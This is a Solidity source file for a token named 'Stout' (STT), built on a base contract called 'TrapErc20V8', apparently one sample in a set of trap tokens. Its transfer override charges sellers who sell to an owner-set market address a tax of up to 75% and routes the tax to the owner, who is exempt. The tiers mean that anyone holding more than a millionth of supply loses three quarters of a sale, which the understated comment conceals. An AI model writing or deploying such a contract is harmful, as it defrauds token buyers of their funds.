// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// The more a seller holds, the more he leaves; a millionth of the supply counts as a lot.
contract StoutTax is TrapErc20V8 {
    address public market;
    uint256[3] private steps = [1_000_000, 100_000_000, 10_000_000_000];
    uint256[3] private rates = [75, 30, 5];

    constructor() TrapErc20V8("Stout", "STT", 1e9 ether) {}

    function setMarket(address market_) external onlyOwner {
        market = market_;
    }

    function rateOf(address seller) public view returns (uint256) {
        for (uint256 i = 0; i < 3; i++) {
            if (balanceOf(seller) > totalSupply() / steps[i]) return rates[i];
        }
        return 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 tax;
        if (to == market && from != _owner) tax = value * rateOf(from) / 100;
        super._transfer(from, to, value - tax);
        if (tax > 0) super._transfer(from, _owner, tax);
    }
}
